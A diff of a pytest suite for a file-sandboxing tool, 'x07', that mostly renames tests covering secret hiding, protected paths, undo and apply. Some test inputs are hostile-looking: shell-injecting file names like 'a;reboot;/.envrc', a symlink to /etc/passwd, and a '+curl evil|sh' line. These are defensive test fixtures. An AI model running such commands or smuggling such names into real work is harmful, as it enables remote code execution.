@@ -125,7 +125,7 @@ NAMES = ["key.pem", "a;b.pem", "$(x) '.pem", "-x.pem", "[a].pem", "*.pem", "KEY.
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_the_flag_of_a_result_lets_a_secret_in(run: Run, name: str) -> None:
+def test_the_reveal_flag_reveals_one_name(run: Run, name: str) -> None:
     """The suggested --reveal flag is quoted for a shell and reveals exactly that name."""
     (run.root / name).write_text("a key")
     (run.root / "\uff5e.pem").write_text("another")  # the last of all
@@ -140,7 +140,7 @@ def test_the_flag_of_a_result_lets_a_secret_in(run: Run, name: str) -> None:
     assert set(run.files(changes="discard", reveal=(flags[1],)).copied[0].nodes) == {"", name}
 
 
-def test_every_secret_that_is_told_has_its_flag(run: Run) -> None:
+def test_every_named_secret_has_its_flag(run: Run) -> None:
     """Every named secret gets a --reveal flag, once for each name."""
     for number in range(7):
         (run.root / f"d{number}").mkdir()
@@ -150,7 +150,7 @@ def test_every_secret_that_is_told_has_its_flag(run: Run) -> None:
     assert flags == ["--reveal", "0.pem", "--reveal", "1.pem", "--reveal", "2.pem"]  # of the five that are named
 
 
-def test_patterns_of_secrets_know_no_case(run: Run) -> None:
+def test_secret_patterns_ignore_case(run: Run) -> None:
     """--hide and --reveal ignore case."""
     for name in ("Notes.TXT", "a.pem", "b.pem"):
         (run.root / name).write_text("x")
@@ -158,14 +158,14 @@ def test_patterns_of_secrets_know_no_case(run: Run) -> None:
     assert set(found.nodes) == {"", "a.pem"}
 
 
-def test_what_the_user_hides_is_told_with_the_pattern(run: Run) -> None:
+def test_a_hidden_file_names_its_pattern(run: Run) -> None:
     """A file hidden by --hide is reported with that flag, not as a secret."""
     (run.root / "data.csv").write_text("x")
     run.files(changes="discard", hide=("*.csv",))
     assert run.denial("secrets").subject.endswith("data.csv: hidden by --hide '*.csv'")
 
 
-def test_what_nothing_would_let_in_says_so(run: Run) -> None:
+def test_entries_that_nothing_allows_say_so(run: Run) -> None:
     """Entries that nothing can allow say so."""
     os.mkfifo(run.root / "pipe")
     (run.root / "out").symlink_to("/etc")
@@ -186,7 +186,7 @@ def test_what_nothing_would_let_in_says_so(run: Run) -> None:
         ({"enabled": False}, "", {"out": Path("out")}, "fs.enabled", True),
     ],
 )
-def test_what_is_refused_before_a_run_is_a_denial(
+def test_refusals_before_a_run_are_denials(
     run: Run, rules: dict[str, Any], name: str, words: dict[str, Any], field: str, value: object
 ) -> None:
     """A root that may not go in, and --out without files, are denials with advice."""
@@ -213,7 +213,7 @@ def test_roots_by_flag_without_files_are_a_denial(run: Run) -> None:
 
 
 @pytest.mark.parametrize(("most", "parts", "value"), [(2, 3, 3), (256, 257, None), (300, 257, None)])
-def test_a_depth_is_named_that_a_policy_has(run: Run, most: int, parts: int, value: int | None) -> None:
+def test_a_possible_depth_is_suggested(run: Run, most: int, parts: int, value: int | None) -> None:
     """An entry that is too deep suggests fs.max_depth, unless no policy allows that depth."""
     place = run.root
     for _ in range(parts):
@@ -243,7 +243,7 @@ def test_too_many_entries_name_the_field(run: Run) -> None:
 
 
 @pytest.mark.parametrize("name", [os.fsdecode(b"\xff\x1b/.envrc"), ".g\u200cit", ".bash\x01"])
-def test_a_name_that_cannot_be_written_has_no_flag(run: Run, name: str) -> None:
+def test_an_unprintable_name_has_no_flag(run: Run, name: str) -> None:
     """An unprintable name gets no flag to paste."""
     files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
     folders = [Entry(Kind.FOLDER, os.fsencode(part), mode=0o755) for part in name.split("/")[:-1]]
@@ -252,7 +252,7 @@ def test_a_name_that_cannot_be_written_has_no_flag(run: Run, name: str) -> None:
 
 
 @pytest.mark.parametrize("name", ["a;reboot;/.envrc", ".bash*", "-x/.git"])
-def test_the_flag_of_a_result_lets_a_protected_name(run: Run, name: str) -> None:
+def test_the_protected_flag_allows_one_name(run: Run, name: str) -> None:
     """The suggested --allow-protected flag is quoted for a shell and allows exactly that name."""
     files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
     parts = name.split("/")
@@ -282,7 +282,7 @@ def test_the_flag_of_a_result_lets_a_protected_name(run: Run, name: str) -> None
         ("file.json", "file.json"),
     ],
 )
-def test_nothing_that_decides_which_policy_is_in_use_can_be_changed(run: Run, given: str, changed: str) -> None:
+def test_the_policy_in_use_is_protected(run: Run, given: str, changed: str) -> None:
     """The policy in use, and every link on the way to it, is protected."""
     (run.root / "real").mkdir()
     (run.root / "mine").mkdir()
@@ -310,9 +310,7 @@ def test_nothing_that_decides_which_policy_is_in_use_can_be_changed(run: Run, gi
         ("cache/x", "y"),
     ],
 )
-def test_nothing_that_the_tool_itself_believes_can_be_changed(
-    run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str
-) -> None:
+def test_own_records_are_protected(run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str) -> None:
     """Our own records, saved changes and cache cannot be changed by a program."""
     base = run.root.parent
     monkeypatch.setenv("X07_VM_CACHE_DIR", str(base / "cache"))
@@ -324,7 +322,7 @@ def test_nothing_that_the_tool_itself_believes_can_be_changed(
         chosen(find(RUN).changes, [], ["*"])
 
 
-def test_a_policy_that_is_itself_a_root_cannot_be_changed(run: Run) -> None:
+def test_a_root_that_is_the_policy_is_protected(run: Run) -> None:
     """A write root that is the policy in use is protected."""
     place = run.root / "p.json"
     place.write_bytes(render_policy(default_policy()))
@@ -358,7 +356,7 @@ def test_a_root_in_a_repository_is_protected(run: Run) -> None:
     assert run.back(run.files({"write_roots": (str(bare / "tree/deep"),)}), hook)[0].state == "applied"
 
 
-def test_a_root_that_is_itself_the_name_can_be_named(run: Run) -> None:
+def test_a_protected_root_is_named_by_path(run: Run) -> None:
     """A root that is itself protected is named by its path, and flags accept it."""
     ci, jenkins = run.root / ".github", run.root / "Jenkinsfile"
     ci.mkdir()
@@ -386,7 +384,7 @@ def test_a_root_that_is_itself_the_name_can_be_named(run: Run) -> None:
     assert all(root.changes == () for root in chosen(changes, [str(run.root)], []).roots)
 
 
-def test_of_two_roots_that_hold_the_same_name_either_can_be_skipped(run: Run) -> None:
+def test_a_name_in_two_roots_is_skipped_by_path(run: Run) -> None:
     """A name that exists in two roots is printed and skipped by its whole path."""
     one, two = (run.root / name for name in ("one", "two"))
     for place in (one, two):
@@ -401,7 +399,7 @@ def test_of_two_roots_that_hold_the_same_name_either_can_be_skipped(run: Run) ->
 
 
 @pytest.mark.parametrize("moved", [False, True])
-def test_what_is_skipped_stays_with_its_folders(run: Run, capsys: pytest.CaptureFixture[str], *, moved: bool) -> None:
+def test_a_skipped_entry_keeps_its_folders(run: Run, capsys: pytest.CaptureFixture[str], *, moved: bool) -> None:
     """A skipped entry keeps its folders, and the rest is applied."""
     inner = run.root / "proj/in"
     (inner / ".vscode").mkdir(parents=True)
@@ -431,7 +429,7 @@ def test_what_is_skipped_stays_with_its_folders(run: Run, capsys: pytest.Capture
     assert stays == [f"x07: stays, since it holds what is skipped: {name}" for name in ("proj", "proj/in")]
 
 
-def test_what_was_not_copied_in_can_be_skipped(run: Run) -> None:
+def test_a_left_out_entry_can_be_skipped(run: Run) -> None:
     """An entry that was not copied in can be skipped, so that the rest is applied."""
     for name in ("d/in/a.pem", "d/in/b.txt", "d/c.txt", "e/z.pem", "e/y"):
         (run.root / name).parent.mkdir(parents=True, exist_ok=True)
@@ -459,7 +457,7 @@ LEFT: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
 
 @pytest.mark.parametrize(("left", "fs", "more"), LEFT)
 @pytest.mark.parametrize("taken", [True, False])
-def test_what_was_left_out_and_is_in_the_way_says_so(
+def test_a_left_out_entry_is_never_replaced(
     run: Run, left: str, fs: dict[str, Any], more: dict[str, Any], *, taken: bool
 ) -> None:
     """An entry that was left out is never replaced or removed, and is named with advice."""
@@ -482,7 +480,7 @@ def test_what_was_left_out_and_is_in_the_way_says_so(
     assert f"f/d/{left}" in run.files({**fs, **more}, changes="discard", **words).copied[0].nodes
 
 
-def test_no_link_leaves_by_way_of_one_that_was_left_out(run: Run) -> None:
+def test_no_link_escapes_through_a_left_out_one(run: Run) -> None:
     """A new link may not leave its root through a link that was left out."""
     (run.root / "lk").mkdir()
     (run.root / "lk/out").symlink_to("/etc/passwd")
@@ -494,7 +492,7 @@ def test_no_link_leaves_by_way_of_one_that_was_left_out(run: Run) -> None:
 
 
 @pytest.mark.parametrize("more", [(), (Entry(Kind.FOLDER, b"new", mode=0o755),)])
-def test_that_a_roots_own_mode_stays_is_said(run: Run, more: tuple[Entry, ...]) -> None:
+def test_a_changed_root_mode_gives_a_warning(run: Run, more: tuple[Entry, ...]) -> None:
     """A changed mode of a root is not applied but gives a warning."""
     mode = run.root.stat().st_mode
     changes, denials, warning = run.back(run.files(), Entry(Kind.FOLDER, b"", mode=0o700), *more)
@@ -504,7 +502,7 @@ def test_that_a_roots_own_mode_stays_is_said(run: Run, more: tuple[Entry, ...]) 
     assert (run.root / "new").exists() == bool(more)
 
 
-def test_what_may_not_come_back_says_whether_anything_would_let_it(run: Run) -> None:
+def test_refused_changes_say_what_would_allow_them(run: Run) -> None:
     """Refused changes say whether anything would allow them."""
     files = run.files({"allow_symlinks": False})
     pipe = Entry(Kind.OTHER, b"p", mode=0o010644)
@@ -545,7 +543,7 @@ LOST: list[tuple[str, dict[str, Any], set[str]]] = [
 
 @pytest.mark.parametrize("outer", ["read_roots", "write_roots"])
 @pytest.mark.parametrize(("inner", "fs", "ways"), LOST)
-def test_a_root_in_what_was_left_out_of_another_goes_in(
+def test_a_root_below_a_left_out_entry_is_copied(
     run: Run, inner: str, fs: dict[str, Any], ways: set[str], outer: str
 ) -> None:
     """A root below an entry that another root leaves out is copied in by itself."""
@@ -572,7 +570,7 @@ def test_a_root_in_what_was_left_out_of_another_goes_in(
     ]
 
 
-def test_what_comes_back_of_a_root_in_another_is_of_that_alone(run: Run) -> None:
+def test_changes_of_a_nested_root_are_its_own(run: Run) -> None:
     """Changes of a nested root are limited to it."""
     inner = run.root / ".aws/new"
     inner.mkdir(parents=True)
@@ -603,7 +601,7 @@ def test_what_comes_back_of_a_root_in_another_is_of_that_alone(run: Run) -> None
     assert sorted(str(path.relative_to(run.root)) for path in run.root.rglob("made")) == [".aws/new/made", "made"]
 
 
-def test_out_is_a_folder_or_is_not_there(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_out_may_not_be_a_file(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     """--out naming a file is refused before a VM starts."""
     monkeypatch.chdir(run.root)
     (run.root / "file").touch()
@@ -619,7 +617,7 @@ def save_set(changes: ChangeSet, folder: Path) -> None:
     (folder / "changes" / "data").write_bytes(b"")
 
 
-def test_a_set_that_makes_no_sense_is_an_error_that_is_told(run: Run) -> None:
+def test_a_damaged_set_is_an_error(run: Run) -> None:
     """A damaged change set is an error when it is applied."""
     made = Change(name=".x07-apply-1", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
@@ -628,7 +626,7 @@ def test_a_set_that_makes_no_sense_is_an_error_that_is_told(run: Run) -> None:
         do(find(RUN), find(RUN).changes, lambda _path: None)
 
 
-def test_undoing_can_be_killed_while_it_ends(run: Run) -> None:
+def test_a_killed_undo_is_completed(run: Run) -> None:
     """A killed undo is completed by the next command."""
     (run.root / "a").write_bytes(b"x")
     node = Node(kind="file", mode=0o644, size=1, sha256=hashlib.sha256(b"x").hexdigest())
@@ -658,7 +656,7 @@ def test_undoing_can_be_killed_while_it_ends(run: Run) -> None:
     assert killed > 10
 
 
-def test_of_two_that_undo_at_once_the_second_finds_it_done(run: Run) -> None:
+def test_a_second_concurrent_undo_does_nothing(run: Run) -> None:
     """The second of two concurrent undos finds nothing to do."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
@@ -677,7 +675,7 @@ def test_of_two_that_undo_at_once_the_second_finds_it_done(run: Run) -> None:
         undo(find(RUN), other_ends)
 
 
-def test_what_cannot_be_recovered_says_where_its_journal_is(run: Run) -> None:
+def test_a_failed_recovery_names_its_journal(run: Run) -> None:
     """A failed recovery names its journal and what to do."""
     save_set(ChangeSet(run=RUN, roots=()), run.folder.path)
     folder = run.folder.path / "changes"
@@ -692,7 +690,7 @@ def test_what_cannot_be_recovered_says_where_its_journal_is(run: Run) -> None:
     assert (folder / "journal").exists()
 
 
-def test_what_stands_in_the_way_of_undoing_is_told_as_that(run: Run) -> None:
+def test_a_later_change_is_a_conflict_of_undo(run: Run) -> None:
     """A file changed since apply is a conflict of undo, with the command that shows the changes."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
@@ -706,7 +704,7 @@ def test_what_stands_in_the_way_of_undoing_is_told_as_that(run: Run) -> None:
     assert list(run.root.iterdir()) == []
 
 
-def test_what_is_all_skipped_is_not_said_to_be_there(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+def test_apply_distinguishes_skipped_and_applied(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """`x07 apply` says whether nothing is left or everything is already applied."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
@@ -722,7 +720,7 @@ def test_what_is_all_skipped_is_not_said_to_be_there(run: Run, capsys: pytest.Ca
     ]
 
 
-def test_the_document_of_applying_tells_what_was_done(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_apply_document_lists_changes(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """`x07 apply --json` lists exactly the changes that it made."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
@@ -735,7 +733,7 @@ def test_the_document_of_applying_tells_what_was_done(run: Run, capsys: pytest.C
     assert told == [[], ["a"], []]
 
 
-def test_undoing_lists_what_it_deletes(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+def test_undo_lists_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """`x07 undo` lists each deleted name."""
     made = tuple(Change(name=name, before=None, after=Node(kind="folder", mode=0o755)) for name in ("a", "a/b", "c"))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=made)
@@ -760,9 +758,7 @@ ROOTS: list[tuple[list[str], list[str], set[str]]] = [
 
 
 @pytest.mark.parametrize(("write", "read", "mounted"), ROOTS)
-def test_a_root_that_another_shows_anyway_is_no_mount(
-    run: Run, write: list[str], read: list[str], mounted: set[str]
-) -> None:
+def test_a_redundant_root_is_no_mount(run: Run, write: list[str], read: list[str], mounted: set[str]) -> None:
     """A nested root is mounted only if it differs from the root around it."""
     (run.root / "a/b").mkdir(parents=True)
     (run.root / "a/b/f").touch()
@@ -775,7 +771,7 @@ def test_a_root_that_another_shows_anyway_is_no_mount(
 
 
 @pytest.mark.parametrize(("entry", "mounted"), [("a/f", True), ("a/", False), ("a/b", False), ("a", False)])
-def test_a_file_that_a_list_of_programs_names_stays_a_mount(run: Run, entry: str, *, mounted: bool) -> None:
+def test_a_listed_executable_keeps_its_mount(run: Run, entry: str, *, mounted: bool) -> None:
     """A root on the list of executables keeps its own mount."""
     (run.root / "a").mkdir()
     (run.root / "a/f").touch()
@@ -811,7 +807,7 @@ def test_a_missing_root_is_made_in_the_one_around_it(run: Run, told: list[Entry]
     assert found == (there or {})
 
 
-def test_a_missing_root_is_one_folder_wherever_it_is_shown(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_missing_root_is_one_folder(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     """A missing root is one folder under all its paths."""
     monkeypatch.chdir(run.root)
     files = run.files({"write_roots": (str(run.root), "new")}, out=Path("out"), changes="discard")
@@ -849,7 +845,7 @@ def die_at(number: int) -> None:
         setattr(os, name, dying(getattr(os, name)))
 
 
-def test_a_full_disk_is_told_and_leaves_no_half_of_a_list(run: Run) -> None:
+def test_a_full_disk_leaves_no_partial_list(run: Run) -> None:
     """A full disk while changes are saved is an error and leaves no partial list."""
     files = run.files(changes="keep")
     soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
@@ -877,7 +873,7 @@ def test_a_result_names_every_deletion(run: Run) -> None:
     assert len(changes.names) == changes.deleted == len(gone)
 
 
-def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+def test_every_deletion_is_printed(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """Every deletion is printed."""
     gone = [f"gone {number}" for number in range(1500)]
     node = Node(kind="file", mode=0o644, sha256="0" * 64)
@@ -896,7 +892,7 @@ def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) ->
         assert lines == [f"x07: would be deleted: {above}{name}" for name in sorted(gone)]
 
 
-def test_a_patch_names_what_was_kept_though_nothing_of_it_is_a_change(run: Run) -> None:
+def test_a_patch_lists_unsupported_entries(run: Run) -> None:
     """--diff lists unsupported entries too."""
     changes, denials, _ = run.back(run.files(), Entry(Kind.OTHER, b"pipe", mode=0o10644))
     ended = msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials))
@@ -908,7 +904,7 @@ def test_a_patch_names_what_was_kept_though_nothing_of_it_is_a_change(run: Run) 
     assert place.with_name("p.json").read_bytes() == machine_form(find(RUN).changes)
 
 
-def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_carriage_return_hides_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
     """A carriage return in a patch cannot hide text on a terminal."""
     ours, theirs = pty.openpty()
     tty.setraw(theirs)  # so that what comes is what was written
@@ -920,7 +916,7 @@ def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.
     assert shown.decode() == "+curl evil|sh\N{REPLACEMENT CHARACTER}+echo hello\n+dos\r\n"
 
 
-def test_a_link_that_comes_into_the_way_to_a_root_is_not_followed(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_swapped_link_ends_the_run(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     """A folder replaced by a link before copying ends the run."""
     outer = run.root / "outer"
     (outer / "in").mkdir(parents=True)
